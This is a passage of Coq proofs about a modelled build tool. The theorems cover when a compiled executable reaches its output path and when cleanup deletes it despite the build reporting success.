  { intros w1 H1. post_steps. intros _. exact H1. }
  do 3 post_step.
  assert (Hcur : fs (emit (Enter Compile) w) !! q = None) by exact Ha.
  clear Ha.
  repeat
    lazymatch goal with
    | Hcur : _ = None |- post (bind ?m ?k) ?wc ?Q =>
        apply (post_bind_inv (absent_stays q) m k wc Q);
        [ solve [absent_kept Hc Hout Hin
                | apply absent__generate_spec_file ]
        | let r := fresh "r" in
          let w1 := fresh "w" in
          let HR := fresh "HR" in
          intros r w1 HR; specialize (HR Hcur); clear Hcur;
          destruct r as [?|?]; cbv beta iota; [|apply Hfail; exact HR] ]
    | |- post (and_then _ _) _ _ => unfold and_then at 1
    | |- post (if ?c then _ else ret false) _ _ =>
        destruct c; [|apply post_ret; intros _; assumption]
    end.
  apply (post_bind_inv (absent_stays q)).
  { apply absent_stays_makedirs. unfold q, final_executable.
    apply join_not_prefix_parent. }
  intros r w14 HR. specialize (HR HR0). destruct r as [[]|e]; [|apply Hfail; exact HR].
  post_step. post_step.
  - post_steps. intros Hne. exfalso. apply Hne. reflexivity.
  - cbv beta iota. apply Hfail. exact HR.
Qed.

Lemma compile_success_post h b w :
  post (_compile_executable h b) w (fun r w' =>
    r = Val true ->
    exists c,
      read_file (fs w') (join (join (compile_dir b) "dist") (executable_name b)) = Some c /\
      (isdir (fs w') (final_executable b) = false ->
       read_file (fs w') (final_executable b) = Some c)).
Proof.
  unfold _compile_executable. do 3 post_step.
  repeat lazymatch goal with
         | |- post (bind (fs_update ?op) _) _ _ =>
             lazymatch op with
             | context [final_executable] => fail
             | _ => post_skip
             end
         | |- post _ _ _ => post_skip
         end.
  all: try (post_steps; discriminate).
  post_steps; try discriminate.
  intros _. simpl.
  match goal with H : copy2 _ _ _ = Some _ |- _ =>
    pose proof (copy2_Some _ _ _ _ H) as (c & Hsrc & Hne & Hw)
  end.
  exists c. split.
  - apply read_file_Some.
    etransitivity; [exact (write_file_other _ _ _ _ _ Hw Hne)|exact Hsrc].
  - intros Hd. apply read_file_Some.
    unfold copy_target in Hw.
    match type of Hw with
    | write_file ?f (if isdir ?f ?d then _ else _) _ = _ =>
        destruct (isdir f d) eqn:Ed
    end.
    + exfalso. apply isdir_true in Ed.
      pose proof (write_file_dir _ _ _ _ _ Hw Ed) as Hstill.
      apply isdir_true in Hstill. congruence.
    + exact (write_file_lookup _ _ _ _ Hw).
Qed.

(** X14.  A compilation that returns success has copied the file the
    packaging tool left under [dist] to the output path, unless a
    directory stands there.  A compilation that does not return success
    puts nothing at the output path: with a confined packaging tool and an
    output path apart from the compilation directory, a path that held
    nothing still holds nothing. *)
Theorem compilation_delivers_or_leaves_nothing h b w r w' :
  _compile_executable h b w = (r, w') ->
  (r = Val true ->
   exists c,
     read_file (fs w') (join (join (compile_dir b) "dist") (executable_name b)) = Some c /\
     (isdir (fs w') (final_executable b) = false ->
      read_file (fs w') (final_executable b) = Some c)) /\
  (r ≠ Val true ->
   tools_confined h ->
   ¬ compile_dir b `prefix_of` final_executable b ->
   ¬ final_executable b `prefix_of` compile_dir b ->
   exists_ (fs w) (final_executable b) = false ->
   exists_ (fs w') (final_executable b) = false).
Proof.
  intros E. split.
  - exact (post_run _ _ _ _ _ (compile_success_post h b w) E).
  - intros Hr Hc Hout Hin Ha.
    assert (Hn : fs w !! final_executable b = None).
    { unfold exists_ in Ha. destruct (fs w !! final_executable b); [discriminate|reflexivity]. }
    pose proof (post_run _ _ _ _ _ (compile_failure_post h b w Hc Hout Hin Hn) E Hr) as H.
    unfold exists_. destruct (fs w' !! final_executable b) as [x|] eqn:Ex; [|reflexivity].
    discriminate H.
Qed.

Lemma compilation_delivers_or_leaves_nothing_witness :
  exists c,
    read_file (fs (_compile_executable linux_host linux_builder obfuscated_world).2)
      (final_executable linux_builder) = Some c.
Proof.
  destruct (proj1 (compilation_delivers_or_leaves_nothing linux_host linux_builder
                     obfuscated_world _ _
                     (run_pair (_compile_executable linux_host linux_builder)
                        obfuscated_world))
              ltac:(vm_compute; reflexivity)) as (c & _ & Hc).
  exists c. apply Hc. vm_compute. reflexivity.
Defined.






Lemma swept_upward b d p : swept b d -> d `prefix_of` p -> swept b p.
Proof.
  intros [H|(name & Hn & H)] Hp.
  - left. etransitivity; eassumption.
  - right. exists name. split; [exact Hn|]. etransitivity; eassumption.
Qed.

Lemma persists_swept__clean_up h b : keeps (persists (swept b)) (_clean_up h b).
Proof.
  assert (Hq : forall {A} (m : M A), (forall w, fs (m w).2 = fs w) ->
                 keeps (persists (swept b)) m).
  { intros A m. apply persists_quiet. }
  unfold _clean_up.
  apply keeps_bind; [exact _|apply Hq; reflexivity|intros _].
  apply keeps_try_except; [exact _| |intros _; keeps_structure; apply Hq; reflexivity].
  apply keeps_bind; [exact _| |intros _; keeps_structure].
  destruct (negb (debug b)); [|keeps_structure].
  apply keeps_bind; [exact _| |intros _].
  { apply persists_rmtree; [exact (swept_upward b)|left; reflexivity]. }
  apply keeps_bind; [exact _|keeps_structure|intros names].
  apply keeps_bind; [exact _| |intros _].
  { apply keeps_for_each_in; [exact _|]. intros name Hname.
    apply list_elem_of_filter in Hname as [Hspec _].
    apply keeps_try_except; [exact _| |intros _; keeps_structure].
    apply persists_remove. right. exists name. split; [exact Hspec|reflexivity]. }
  keeps_structure.
  apply persists_rmtree; [exact (swept_upward b)|left; reflexivity].
Qed.

Lemma _clean_up_sweeps h b w q :
  debug b = false -> fs w !! build_dir b = Some Dir -> build_dir b `prefix_of` q ->
  post (_clean_up h b) w (fun _ w' => fs w' !! q = None).
Proof.
  intros Hd Hdir Hq. unfold _clean_up. rewrite Hd. cbn [negb]. do 3 post_step.
  do 3 post_step.
  match goal with
  | |- post ?tail ?w2 _ => assert (Hk : keeps (absent_stays q) tail)
  end.
  { repeat first [ progress keeps_structure
                 | apply absent_stays_rmtree
                 | apply absent_stays_remove
                 | apply absent_stays_quiet; intros ?; reflexivity ]. }
  eapply post_weaken; [apply Hk|]. intros r w' Habs.
  assert (Hgone : fs w' !! q = None).
  { apply Habs. simpl. rewrite rmtree_lookup.
    apply isdir_true in Hdir. rewrite Hdir.
    rewrite bool_decide_eq_true_2 by exact Hq. reflexivity. }
  destruct r as [[]|e]; post_steps; simpl; exact Hgone.
Qed.

(** X16.  Where the delivered executable is after a successful build.  It
    is at the output path when cleanup does not sweep that path.  When
    the output directory lies in the build root and the debug flag is
    off, cleanup deletes it: the build reports success and the output
    path holds nothing. *)
Theorem delivered_executable_and_cleanup h b w m w' :
  build h b w = (Val (true, Some m), w') ->
  (¬ swept b (final_executable b) -> exists_ (fs w') (final_executable b) = true) /\
  (tools_confined h -> debug b = false -> build_dir b `prefix_of` output_dir b ->
   exists_ (fs w') (final_executable b) = false).
Proof.
  intros Hb.
  destruct (build_success _ _ _ _ _ Hb) as (w1 & w2 & w3 & w4 & w5 & w6 & w7 &
    E1 & E2 & E3 & E4 & E5 & E6 & E7 & Hfs).
  split.
  - intros Hn.
    pose proof (post_run _ _ _ _ _ (_compile_executable_leaves_executable h b w4) E5 eq_refl)
      as H5.
    assert (H6 : exists_ (fs w6) (final_executable b) = true).
    { pose proof (post_run _ _ _ _ _ (_generate_metadata_spec h b w5) E6)
        as (m' & _ & [[_ Hsame] | [_ Hw]]).
      - rewrite Hsame. exact H5.
      - eapply exists_write; eassumption. }
    apply exists_true in H6 as [x Hx].
    pose proof (keeps_run _ _ _ _ _ (persists_swept__clean_up h b) E7) as Hk.
    apply exists_true. exists x. rewrite Hfs. exact (Hk _ _ Hn Hx).
  - intros Hc Hd Hin.
    destruct (post_run _ _ _ _ _ (_compile_executable_dirs h b w4 Hc) E5 eq_refl)
      as [Hbuild5 _].
    pose proof (keeps_run _ _ _ _ _ (dirs_stay__generate_metadata (fun _ => True) h b) E6)
      as Hmeta.
    assert (Hq : build_dir b `prefix_of` final_executable b).
    { unfold final_executable. apply prefix_join_trans. exact Hin. }
    pose proof (post_run _ _ _ _ _
                  (_clean_up_sweeps h b w6 _ Hd (Hmeta _ I Hbuild5) Hq) E7) as Hgone.
    unfold exists_. rewrite Hfs.
    destruct (fs w7 !! final_executable b) eqn:Ex; [|reflexivity].
    pose proof (eq_trans (eq_sym Ex) Hgone). discriminate.
Qed.

Lemma delivered_executable_and_cleanup_witness :
  exists_ (fs (build linux_host linux_builder demo_world).2) (final_executable linux_builder)
    = true /\
  succeeded (build inside_host inside_builder demo_world).1 = true /\
  exists_ (fs (build inside_host inside_builder demo_world).2)
    (final_executable inside_builder) = false.
Proof.
  split; [|split; [vm_compute; reflexivity|]].
  - destruct (succeeded_run linux_host linux_builder demo_world) as [m E];
      [vm_compute; reflexivity|].
    apply (proj1 (delivered_executable_and_cleanup _ _ _ _ _ E)).
    intros [[k Hk]|(name & Hn & [k Hk])]; [discriminate Hk|].
    injection Hk as <- _. discriminate Hn.
  - destruct (succeeded_run inside_host inside_builder demo_world) as [m E];
      [vm_compute; reflexivity|].
    apply (proj2 (delivered_executable_and_cleanup _ _ _ _ _ E)).
    + apply demo_tools_confined.
    + reflexivity.
    + exists ["out"]. reflexivity.
Defined.




